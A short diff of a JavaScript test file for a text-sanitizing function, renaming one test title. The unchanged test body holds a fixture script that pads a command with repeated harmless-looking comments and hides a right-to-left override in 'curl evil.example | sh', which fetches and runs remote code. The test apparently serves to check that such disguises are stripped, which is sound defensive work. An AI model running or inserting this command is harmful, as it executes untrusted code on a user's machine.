@@ -23,7 +23,7 @@ test('cuts a long text between characters', () => {
   expect(plainText('word '.repeat(1000))).toHaveLength(600)
 })
 
-test('keeps all of a text that a person agrees to', () => {
+test('keeps all of a text that the user agrees to', () => {
   const script = `${'# harmless '.repeat(100)}\r\ncurl evil.example\u202e | sh`
   expect(plainLines(script)).toBe(`${'# harmless '.repeat(100).trim()}\ncurl evil.example | sh`)
 })
